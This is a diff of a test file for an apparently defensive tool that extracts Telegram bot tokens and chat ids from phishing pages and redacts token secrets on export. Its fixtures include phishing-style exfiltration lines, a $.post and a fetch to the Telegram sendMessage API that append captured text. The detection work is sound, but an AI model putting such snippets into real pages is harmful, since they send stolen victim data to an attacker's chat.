@@ -120,6 +120,11 @@ describe('operator ids', () => {
       "var token='7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e'; $.post(url, {chat_id: '-1001987654321', text: m})",
       { telegram: { bots: ['7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e'], chats: ['-1001987654321'] } },
     ],
+    [
+      'Bot API URL',
+      "fetch('https://api.telegram.org/bot7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e/sendMessage?chat_id=5551234567&text='+x)",
+      { telegram: { bots: ['7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e'], chats: ['5551234567'] } },
+    ],
     ['a clock is no bot token', 'at 12:30:45 the token was abc', { telegram: { bots: [], chats: [] } }],
   ])('%s', (_name, text, want) => {
     expect(operatorIds([text], [])).toMatchObject(want);
@@ -190,5 +195,18 @@ describe('on real pages (wild corpus)', () => {
     expect(rows.every((r) => r.branch === 2)).toBe(true);
     expect(rows.filter((r) => r.kind === 'phash-band')).toHaveLength(5);
     expect(new Set(rows.map((r) => r.kind))).toEqual(new Set(['domhash', 'sha256', 'favicon', 'mmh3', 'phash', 'phash-band', 'hhhash', 'resource', 'drop-host', 'sitekey', 'tracker', 'telegram-bot', 'telegram-chat']));
+  });
+});
+
+describe('exports', () => {
+  it('keep a Telegram bot id and drop its secret, wherever the token appears', async () => {
+    const { redactBotTokens } = await import('../../src/export/redact.ts');
+    const token = '7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e';
+    const bundle = { format: 'hoptrace.trace/1', jobs: [], messages: [], tokens: [], cloaking: [], visits: [{ url: `https://api.telegram.org/bot${token}/sendMessage`, branchFinals: [{ fingerprints: { telegram: { bots: [token], chats: ['-1001987654321'] } } }] }] };
+    const out = JSON.stringify(redactBotTokens(bundle as never));
+    expect(out).not.toContain('AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e');
+    expect(out).toContain('"7012345678:[redacted]"');
+    expect(out).toContain('bot7012345678:[redacted]/sendMessage');
+    expect(out).toContain('-1001987654321');
   });
 });
